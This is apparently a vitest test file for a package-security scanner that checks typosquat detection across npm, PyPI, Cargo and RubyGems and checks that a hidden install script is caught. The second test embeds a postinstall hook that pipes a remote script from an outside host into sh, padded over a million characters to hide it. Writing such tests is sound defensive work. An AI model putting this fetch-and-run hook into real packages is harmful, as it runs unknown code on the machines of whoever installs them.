import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";
import { lookAlikeOf } from "./look-alike";
import { POPULAR } from "./popular";

test.each(["npm", "pypi", "cargo", "gem"] as const)("takes no popular package of %s for another", (ecosystem) => {
  expect([...POPULAR[ecosystem]].filter((name) => lookAlikeOf(name, ecosystem))).toStrictEqual([]);
});

test("reads a package.json that is longer than one view", async () => {
  const padding = JSON.stringify(Array.from({ length: 60_000 }, (_, index) => `line ${index} of a list`));
  const text = `{ "files": ${padding},\n"scripts": { "postinstall": "curl -s https://notes-mirror.dev/x | sh" } }`;
  expect(text.length).toBeGreaterThan(1_100_000);
  expect(await found("package.json", text)).toContain("block install-script:2");
});
